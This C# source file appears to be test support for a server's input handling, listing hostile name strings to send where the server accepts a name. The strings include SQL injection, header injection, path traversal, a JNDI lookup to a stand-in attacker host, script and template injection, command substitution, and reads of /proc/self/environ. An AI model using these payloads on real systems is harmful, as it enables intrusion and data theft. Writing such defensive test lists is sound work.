using Loci.TestSupport;

namespace Loci.Server.Load.Naming;

/// <summary>Names that a stranger might send where a server takes one: the two hundred file names of <see cref="HostileNames"/>, and what is made for databases, headers, addresses and readers' eyes.</summary>
internal static class StrangeNames
{
    /// <summary>The names.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. HostileNames.All,
        // databases
        "' OR 1=1 --", "x'; DROP TABLE documents; --", "\"; DELETE FROM chunks; --", "x' UNION SELECT text FROM chunks --", "%' ESCAPE '", "_%", "*", "a' || char(0) || 'b", "NEAR(\"x\" \"y\")", "{\"$gt\":\"\"}",
        // headers and addresses
        "x\r\nSet-Cookie: a=b", "x\nX-Injected: 1", "x%0d%0aSet-Cookie:%20a=b", "%00", "x%00.txt", "%c0%ae%c0%ae/", "%uff0e%uff0e/", "?verify=true", "#fragment", "a;b=c", "a,b", "a=b&c=d", "//evil.example/", "https://evil.example/",
        // names of the model that are not quite its own
        "loci-small\0", "loci-small ", " loci-small", "LOCI-SMALL", "loci\u2011small", "ｌｏｃｉ-small", "loci-small\u200b", "loci-small:tuned:tuned", "loci-small:TUNED", ":tuned", "loci-small/../loci-small", "loci-small?x",
        // programs that read names
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "__proto__", "constructor", "$(id)", "%s%s%s%n", "\u0007\u0008\u001b]0;x\u0007", "NaN", "-1", "9223372036854775808", "1e400", "null", "true",
        // devices and files that never end
        "/dev/zero", "/dev/stdin", "/proc/self/mem", "/proc/self/environ", "CON", "NUL", "COM1", "\\\\.\\PhysicalDrive0",
        // lengths and letters
        new string('n', 5000), string.Concat(Enumerable.Repeat("é", 2000)), new string('\u0301', 500), "\ud83d\ude00\ud83d\ude00", "\u202eexe.txt", "\u2066a\u2069", "　", "\u0085", "\ufffe\uffff",
    ];
}
